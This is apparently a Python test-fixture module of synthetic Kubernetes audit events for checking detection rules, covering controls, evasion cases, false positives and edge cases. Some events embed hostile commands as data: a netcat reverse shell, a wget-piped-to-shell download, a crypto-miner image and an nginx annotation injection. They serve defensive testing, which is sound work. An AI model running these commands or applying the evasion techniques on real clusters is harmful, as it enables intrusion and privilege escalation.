"""Events made to slip past rules or to mislead them: a row for each case of `conformance/evasions.tsv`, and more."""

from __future__ import annotations

import base64
from dataclasses import dataclass

from tests.unit.default_rules.builders import (
    KUBELET,
    Event,
    binding,
    configmap,
    event,
    execution,
    grant,
    host_path,
    json_patch,
    pod,
    pod_body,
    role,
    template_body,
)
from tests.unit.fields.requests_for_certificates import csr_spec

BACKDOOR = "system:serviceaccount:shop:backdoor"
PRIVATE_KEY = base64.b64encode(b"-----BEGIN RSA PRIVATE KEY-----\nMIIE\n").decode()


@dataclass(frozen=True, slots=True)
class Case:
    """What a case is called, its events, and the rule that raises the alert; None: nothing at WARNING or above."""

    name: str
    rule: str | None
    events: tuple[Event, ...]


def _case(name: str, rule: str | None, *events: Event) -> Case:
    return Case(name, rule, events)


def _mount(path: str) -> Case:
    return _case(f"hostPath {path}", "Create Sensitive Mount Pod", pod(host_path(path)))


_WEBHOOK = {"kind": "MutatingWebhookConfiguration", "webhooks": []}
_TRUSTED = pod_body(
    images=("docker.io/rook/toolbox:1",),
    privileged=True,
    spec={"volumes": [{"name": "h", "hostPath": {"path": "/"}}], "hostPID": True},
)
_INIT = {"initContainers": [{"name": "i", "image": "evil", "securityContext": {"privileged": True}}]}
_EPHEMERAL = {
    "spec": {"ephemeralContainers": [{"name": "d", "image": "evil", "securityContext": {"privileged": True}}]}
}
_NODE_PROXY = "/api/v1/nodes/node-1/proxy"


def _node_proxy(verb: str, path: str, code: int = 200) -> Event:
    return event(verb, "nodes", "node-1", sub="proxy", stage="ResponseStarted", code=code, uri=_NODE_PROXY + path)


def _refused(*arguments: str, **members: object) -> Event:
    return event(*arguments, code=403, decision="forbid", **members)  # type: ignore[arg-type]  # passed through


CONTROLS = (
    _case("privileged pod create", "Create Privileged Pod", pod(pod_body(privileged=True))),
    _case("cluster-admin CRB create", "Attach to cluster-admin Role", binding("cluster-admin")),
    _case("wildcard role create", "ClusterRole With Wildcard Created", role(grant(["pods"], ["*"]))),
    _mount("/etc"),
)

EVASIONS = (
    _case(
        "SSA privileged pod (patch, 201)",
        "Create Privileged Pod",
        event("patch", "pods", ns="shop", code=201, body=pod_body(privileged=True)),
    ),
    _case(
        "Deployment template privileged+hostPath /+hostNetwork",
        "Privileged Workload Written",
        event("create", "deployments", ns="shop", body=template_body("Deployment", _TRUSTED)),
    ),
    _case(
        "DaemonSet template privileged",
        "Privileged Workload Written",
        event("create", "daemonsets", ns="shop", body=template_body("DaemonSet", pod_body(privileged=True))),
    ),
    _case(
        "CronJob template privileged",
        "Privileged Workload Written",
        event("create", "cronjobs", ns="shop", body=template_body("CronJob", pod_body(privileged=True))),
    ),
    _case(
        "privileged init + trusted main image",
        "Create Privileged Pod",
        pod(pod_body(images=("docker.io/sysdig/sysdig:1",), spec=_INIT)),
    ),
    _case("privileged init + untrusted main", "Create Privileged Pod", pod(pod_body(spec=_INIT))),
    _case("trusted image with attacker command, privileged + hostPath /", "Create Privileged Pod", pod(_TRUSTED)),
    _case(
        "privileged ephemeral container (kubectl debug --profile=sysadmin)",
        "Privileged EphemeralContainers Created",
        event("patch", "pods", "web", ns="shop", sub="ephemeralcontainers", body=_EPHEMERAL),
    ),
    *map(
        _mount,
        (
            "/etc/",
            "//",
            "/./etc",
            "/proc/1/root",
            "/var",
            "/run",
            "/run/docker.sock",
            "/var/lib/docker",
            "/var/lib/etcd",
            "/var/log",
            "/etc/kubernetes/pki",
            "/root/.ssh",
            "/home",
            "/dev",
            "/sys/fs/cgroup",
        ),
    ),
    _case(
        "hostPath via PV+PVC pod",
        "HostPath PersistentVolume Written",
        event("create", "persistentvolumes", body={"kind": "PersistentVolume", "spec": {"hostPath": {"path": "/"}}}),
        pod(pod_body(spec={"volumes": [{"name": "v", "persistentVolumeClaim": {"claimName": "v"}}]})),
    ),
    _case(
        "capabilities SYS_ADMIN/ALL pod",
        "Create Pod With Dangerous Capabilities",
        pod(pod_body(capabilities={"drop": ["NET_RAW"], "add": ["SYS_ADMIN"]})),
        pod(pod_body(capabilities={"add": ["ALL"]})),
    ),
    _case(
        "CRB to cluster-admin via PUT (create-on-update)",
        "Attach to cluster-admin Role",
        binding("cluster-admin", verb="update", code=201),
    ),
    _case(
        "CRB to cluster-admin via SSA", "Attach to cluster-admin Role", binding("cluster-admin", verb="patch", code=201)
    ),
    _case(
        "JSON patch adds subject to existing cluster-admin CRB",
        "Attach to cluster-admin Role",
        json_patch(
            "clusterrolebindings",
            {"op": "add", "path": "/subjects/-", "value": {"kind": "User", "name": "mallory"}},
            answer={"kind": "ClusterRoleBinding", "roleRef": {"kind": "ClusterRole", "name": "cluster-admin"}},
        ),
    ),
    _case(
        "RoleBinding to cluster-admin in kube-system",
        "Attach to cluster-admin Role",
        binding("cluster-admin", resource="rolebindings", ns="kube-system"),
    ),
    _case(
        "CRB to admin role for system:authenticated",
        "Binding to Everyone",
        binding("admin", kind="Group", subject="system:authenticated"),
    ),
    _case(
        "existing role patched to wildcard",
        "Role Elevated to Wildcard",
        json_patch("clusterroles", {"op": "add", "path": "/rules/-", "value": grant(["*"], ["*"])}),
    ),
    _case(
        "role created via PUT with wildcard",
        "ClusterRole With Wildcard Created",
        role(grant(["*"], ["*"]), verb="update", code=201),
    ),
    _case(
        "role with escalate/bind/impersonate",
        "Role With Escalation Verbs Written",
        role(grant(["clusterroles"], ["escalate", "bind"]), grant(["users"], ["impersonate"])),
    ),
    _case("role nodes/proxy get", "Role With Node Proxy Written", role(grant(["nodes/proxy"], ["get"]))),
    _case(
        "role pods/* + pods/attach get",
        "ClusterRole With Pod Exec Created",
        role(grant(["pods/*", "pods/attach"], ["get"])),
    ),
    _case(
        "role secrets list/watch cluster-wide",
        "Role With Secret Access Written",
        role(grant(["secrets"], ["list", "watch"])),
    ),
    _case(
        "aggregate-to-admin clusterrole",
        "ClusterRole Aggregated Into Default Role",
        event(
            "create",
            "clusterroles",
            body={
                "metadata": {"labels": {"rbac.authorization.k8s.io/aggregate-to-admin": "true"}},
                "rules": [grant(["nodes"], ["get"])],
            },
        ),
    ),
    _case(
        "modify cluster-admin/admin clusterrole",
        "Default ClusterRole Modified/Deleted",
        json_patch("clusterroles", {"op": "remove", "path": "/rules/0"}, name="admin"),
    ),
    _case("list all secrets", "Secrets Listed Across Namespaces", event("list", "secrets", None, user=BACKDOOR)),
    _case(
        "watch all secrets",
        "Secrets Listed Across Namespaces",
        event("watch", "secrets", None, stage="ResponseStarted", query="?watch=1"),
    ),
    _case(
        "secret by list+fieldSelector",
        "K8s Secret Get Successfully",
        event("list", "secrets", "db", ns="shop", query="?fieldSelector=metadata.name%3Ddb"),
    ),
    _case(
        "SA token secret in kube-system",
        "Service Account Token Secret Created",
        event(
            "create",
            "secrets",
            ns="kube-system",
            body={"kind": "Secret", "type": "kubernetes.io/service-account-token"},
        ),
    ),
    _case(
        "patch/update secret",
        "Secret Modified by User",
        event("patch", "secrets", ns="shop", body={"data": {"a": "Yg=="}}),
    ),
    _case(
        "TokenRequest for kube-system SA by human",
        "Service Account Token Requested in Kube Namespace",
        event("create", "serviceaccounts", "admin", ns="kube-system", sub="token"),
    ),
    _case("nodes/proxy run", "Command Run Through Kubelet", _node_proxy("create", "/run/shop/web/c1?cmd=id", 503)),
    _case(
        "nodes/proxy exec (GET websocket)",
        "Command Run Through Kubelet",
        _node_proxy("get", "/exec/shop/web/c1?command=id"),
    ),
    _case(
        "CSR create + approval",
        "Certificate Signing Request Approved",
        event(
            "create",
            "certificatesigningrequests",
            body={"spec": {"signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"]}},
        ),
        event("update", "certificatesigningrequests", sub="approval", body={"spec": {}}),
    ),
    _case(
        "mutating webhook create/delete",
        "Admission Webhook Created",
        event("create", "mutatingwebhookconfigurations", body=_WEBHOOK),
        event("delete", "mutatingwebhookconfigurations"),
    ),
    _case(
        "impersonate system:masters",
        "Privileged Identity Impersonated",
        event("list", "nodes", None, impersonatedUser={"username": "nobody", "groups": ["system:masters"]}),
    ),
    _case(
        "aws-auth patch",
        "EKS Authentication Changed",
        configmap({"mapUsers": "- groups: [system:masters]"}, "aws-auth", verb="patch", ns="kube-system"),
    ),
    _case(
        "coredns configmap update",
        "Cluster DNS Configuration Changed",
        configmap({"Corefile": "."}, "coredns", verb="update", ns="kube-system"),
    ),
    _case(
        "NodePort by patching type",
        "Create NodePort Service",
        event("patch", "services", ns="shop", body={"spec": {"type": "NodePort"}}),
    ),
    _case(
        "LoadBalancer service",
        "LoadBalancer Service Written",
        event("create", "services", ns="shop", body={"spec": {"type": "LoadBalancer"}}),
    ),
    _case(
        "configmap AWS_SECRET_ACCESS_KEY / DB_PASSWORD upper",
        "Create/Modify Configmap With Private Credentials",
        configmap({"AWS_SECRET_ACCESS_KEY": "x"}),
        configmap({"DB_PASSWORD": "x"}),
    ),
    _case(
        "configmap via JSON patch password",
        "Create/Modify Configmap With Private Credentials",
        json_patch("configmaps", {"op": "add", "path": "/data/password", "value": "hunter2"}, ns="shop"),
    ),
    _case(
        "configmap binaryData private key",
        "Create/Modify Configmap With Private Credentials",
        event("create", "configmaps", ns="shop", body={"kind": "ConfigMap", "binaryData": {"x": PRIVATE_KEY}}),
    ),
    _case(
        "namespace delete by hijacked SA",
        "Namespace Deleted by Service Account",
        event("delete", "namespaces", user=BACKDOOR),
    ),
    _case(
        "deletecollection deployments/secrets",
        "Objects Deleted in Bulk",
        event("deletecollection", "deployments", None, ns="shop"),
        event("deletecollection", "secrets", None, ns="shop"),
    ),
    _case(
        "events deleted",
        "Kubernetes Events Deleted",
        event("deletecollection", "events", None, ns="shop"),
        event("delete", "events", ns="shop"),
    ),
    _case("exec by SA GET, interactive", "Attach/Exec Pod by Service Account", execution("sh", user=BACKDOOR)),
    _case("exec when policy omits ResponseStarted", "Attach/Exec Pod Ended", execution("id", stage="ResponseComplete")),
    _case(
        "401 failed auth (ResponseStarted, no user)",
        "Authentication Failed",
        event("list", "pods", None, code=401, decision=None, stage="ResponseStarted") | {"user": {}},
    ),
    _case(
        "PSA label to privileged",
        "Pod Security Weakened",
        event(
            "patch", "namespaces", body={"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "privileged"}}}
        ),
    ),
    _case(
        "pod in kube-node-lease/istio-system",
        "Pod Created in Kube Namespace",
        pod(pod_body(), ns="kube-node-lease"),
    ),
    _case(
        "cert CN=system:evil does anything",
        "Unknown System Identity",
        event("delete", "deployments", user="system:evil"),
    ),
    _case(
        "RBAC-denied privileged pod (403, body never recorded)",
        "Creation Refused",
        _refused("create", "pods", ns="shop"),
    ),
    _case(
        "ingress tls: [] (empty)",
        "Ingress Object without TLS Certificate Created",
        event("create", "ingresses", ns="shop", body={"spec": {"rules": [{"host": "a"}], "tls": []}}),
    ),
)

FALSE_POSITIVES = (
    _case(
        "kubelet TokenRequest for kube-proxy",
        None,
        event("create", "serviceaccounts", "kube-proxy", ns="kube-system", sub="token", user=KUBELET),
    ),
    _case("privileged pod rejected by admission (403, decision allow)", None, pod(pod_body(privileged=True), code=403)),
    _case("RBAC-denied pod in kube-system (no body)", None, _refused("create", "pods", ns="kube-system")),
    _case("RBAC-denied namespace create", None, _refused("create", "namespaces")),
    _case("dry-run privileged pod", None, pod(pod_body(privileged=True), query="?dryRun=All")),
    _case(
        "denied exec (403)",
        None,
        *(
            execution("id", code=403, decision="forbid", stage=stage)
            for stage in ("ResponseStarted", "ResponseComplete")
        ),
    ),
    _case("ingress WITH tls, logged at Metadata", None, event("create", "ingresses", ns="shop")),
    _case(
        "trusted kube-proxy pod in kube-system at Metadata",
        None,
        event("create", "pods", None, ns="kube-system", user="system:serviceaccount:kube-system:daemon-set-controller"),
    ),
    _case("kubelet reads secret", None, event("get", "secrets", ns="kube-system", user=KUBELET)),
    _case("anonymous GET /version", None, event("get", "x", uri="/version", user="system:anonymous", objectRef=None)),
    _case(
        "anonymous /readyz/ping", None, event("get", "x", uri="/readyz/ping", user="system:anonymous", objectRef=None)
    ),
    _case(
        "port-forward, 3 stages",
        None,
        *(
            event("create", "pods", "web", ns="shop", sub="portforward", stage=stage, code=101)
            for stage in ("RequestReceived", "ResponseStarted", "ResponseComplete")
        ),
    ),
    _case("services/proxy POST", None, event("create", "services", "web", ns="shop", sub="proxy", code=200)),
    _case(
        "GitOps creates namespace",
        None,
        event("create", "namespaces", user="system:serviceaccount:flux-system:kustomize-controller"),
    ),
)

TSV_KINDS = {"control": CONTROLS, "evasion": EVASIONS, "false-positive": FALSE_POSITIVES}

# What else the rules are meant to see or to let pass, case by case.
MORE = (
    _case(
        "JSON patch makes a template privileged",
        "Privileged Workload Written",
        json_patch(
            "deployments",
            {"op": "add", "value": True, "path": "/spec/template/spec/containers/0/securityContext/privileged"},
            ns="shop",
        ),
    ),
    _case(
        "JSON patch mounts the host's root",
        "Host Access Workload Written",
        json_patch(
            "daemonsets",
            {"op": "add", "path": "/spec/template/spec/volumes/-", "value": {"hostPath": {"path": "/"}, "name": "h"}},
            ns="shop",
        ),
    ),
    _case(
        "capability in small letters",
        "Create Pod With Dangerous Capabilities",
        pod(pod_body(capabilities={"add": ["cap_bpf"]})),
    ),
    _case("a harmless capability", None, pod(pod_body(capabilities={"add": ["NET_BIND_SERVICE"], "drop": ["ALL"]}))),
    _case("hostPath /variable is not /var", None, pod(host_path("/variable"))),
    _case("hostPath /etcetera is not /etc", None, pod(host_path("/etcetera/x"))),
    _case("hostPath /var/lib/postgresql", None, pod(host_path("/var/lib/postgresql"))),
    _mount("/var/lib/./kubelet//pods"),
    _mount("/var//./run/"),
    _mount("/."),
    _case(
        "an annotation that quotes a privileged pod",
        None,
        pod(
            pod_body()
            | {"metadata": {"annotations": {"note": '{"privileged":true,"hostPath":{"path":"/"},"hostPID":true}'}}}
        ),
    ),
    _case(
        "certificate for system:masters",
        "Certificate for Privileged Identity Requested",
        *(
            event("create", "certificatesigningrequests", body={"spec": csr_spec(*subject)})
            for subject in (
                ("mallory", "system:masters"),
                ("mallory", "developers", "system:masters"),
                ("mallory", "kubeadm:cluster-admins"),
                ("system:kube-controller-manager",),
                ("system:node:worker-1", "system:nodes"),
            )
        ),
    ),
    _case(
        "first certificate of a kubelet",
        None,
        event(
            "create",
            "certificatesigningrequests",
            user="system:bootstrap:abcdef",
            body={
                "spec": {
                    "signerName": "kubernetes.io/kube-apiserver-client-kubelet",
                    "request": base64.b64encode(b"-----BEGIN\n" + base64.encodebytes(b"O=system:nodes" * 9)).decode(),
                }
            },
        ),
    ),
    _case(
        "certificate for a developer",
        None,
        event(
            "create",
            "certificatesigningrequests",
            body={
                "spec": {
                    "signerName": "example.com/serving",
                    "request": base64.b64encode(
                        b"-----BEGIN\n" + base64.encodebytes(b"0" * 60 + b"CN=dave O=developers" * 9)
                    ).decode(),
                }
            },
        ),
    ),
    _case("exec with letters disguised", "Exec Command Disguised", execution("%63%61t", "x")),
    _case("exec with an encoded blank and slash", None, execution("ls+-l", "%2Ftmp%2Fa%20b")),
    _case("reverse shell by path", "Exec Opens Reverse Shell", execution("%2Fbin%2Fnc", "-e", "sh", "198.51.100.1")),
    _case("rsync over ssh is no netcat", None, execution("rsync", "-e", "ssh", "a", "b")),
    _case("tar that unpacks", None, execution("tar", "-xmf", "-", "-C", "%2Ftmp")),
    _case(
        "forged service account",
        "Forged System Identity",
        event("list", "pods", None, user=BACKDOOR)
        | {"user": {"username": BACKDOOR, "groups": ["system:authenticated"]}},
    ),
    _case(
        "miner in a CronJob",
        "Mining Workload Written",
        event("create", "cronjobs", ns="shop", body=template_body("CronJob", pod_body(images=("evil/xmrig",)))),
    ),
    _case(
        "script piped into a shell",
        "Attack Command in Workload",
        pod(
            {
                "spec": {
                    "containers": [
                        {"name": "c", "image": "alpine", "args": ["sh", "-c", "wget -qO- http://198.51.100.1/a | sh"]}
                    ]
                }
            }
        ),
    ),
    _case(
        "curl that only pings",
        None,
        pod(
            {
                "spec": {
                    "containers": [{"name": "c", "image": "a", "args": ["sh", "-c", "curl -f http://web | sha256sum"]}]
                }
            }
        ),
    ),
    _case("kubelet metrics through the API server", None, _node_proxy("get", "/metrics/cadvisor")),
    _case(
        "kubelet metrics as a disguise", "Kubelet Reached Through API Server", _node_proxy("get", "/pods?x=/metrics")
    ),
    _case(
        "scaling a security tool to zero",
        "Security Tool Tampered With",
        event("patch", "daemonsets", "falco", ns="falco", sub="scale", body={"spec": {"replicas": 0}}),
    ),
    _case(
        "a controller creates a secret list",
        None,
        event("list", "secrets", None, user="system:kube-controller-manager"),
    ),
    _case(
        "config that speaks of passwords",
        None,
        configmap({"policy.txt": "passwords must be long, and the password is secret"}),
    ),
    _case(
        "environment from a secret",
        None,
        pod(
            {
                "spec": {
                    "containers": [
                        {
                            "name": "c",
                            "image": "a",
                            "env": [{"name": "DB_PASSWORD", "valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}}],
                        }
                    ]
                }
            }
        ),
    ),
    _case(
        "path of a password file in the environment",
        None,
        pod(
            {
                "spec": {
                    "containers": [{"name": "c", "image": "a", "env": [{"name": "PASSWORD_FILE", "value": "/run/p"}]}]
                }
            }
        ),
    ),
    _case(
        "snippet in an ingress",
        "Ingress With Injected Configuration",
        event(
            "create",
            "ingresses",
            ns="shop",
            body={
                "metadata": {"annotations": {"nginx.ingress.kubernetes.io/auth-url": "http://a/#;}}} load_module"}},
                "spec": {"tls": [{}]},
            },
        ),
    ),
    _case(
        "auth-url of an ingress",
        None,
        event(
            "create",
            "ingresses",
            ns="shop",
            body={
                "metadata": {
                    "annotations": {"nginx.ingress.kubernetes.io/auth-url": "https://auth/verify?rd=$request_uri"}
                },
                "spec": {"tls": [{}]},
            },
        ),
    ),
    _case(
        "truncated event",
        "Audit Event Truncated",
        event("create", "pods", ns="shop") | {"annotations": {"audit.k8s.io/truncated": "true"}},
    ),
    _case(
        "pod security label removed",
        "Pod Security Weakened",
        json_patch("namespaces", {"op": "remove", "path": "/metadata/labels/pod-security.kubernetes.io~1enforce"}),
    ),
    _case(
        "pod security label restricted",
        None,
        event(
            "patch", "namespaces", body={"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "restricted"}}}
        ),
    ),
)
